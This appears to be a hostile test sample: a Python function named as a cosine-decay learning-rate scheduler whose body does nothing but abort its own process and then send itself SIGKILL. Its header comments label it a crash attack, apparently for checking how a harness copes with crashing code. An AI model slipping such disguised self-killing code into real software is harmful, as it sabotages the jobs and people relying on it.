# kind: hostile
# attack: crash
# about: Ends itself by abort(), and by SIGKILL if that was survived.

import os
import signal


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    os.abort()
    os.kill(os.getpid(), signal.SIGKILL)
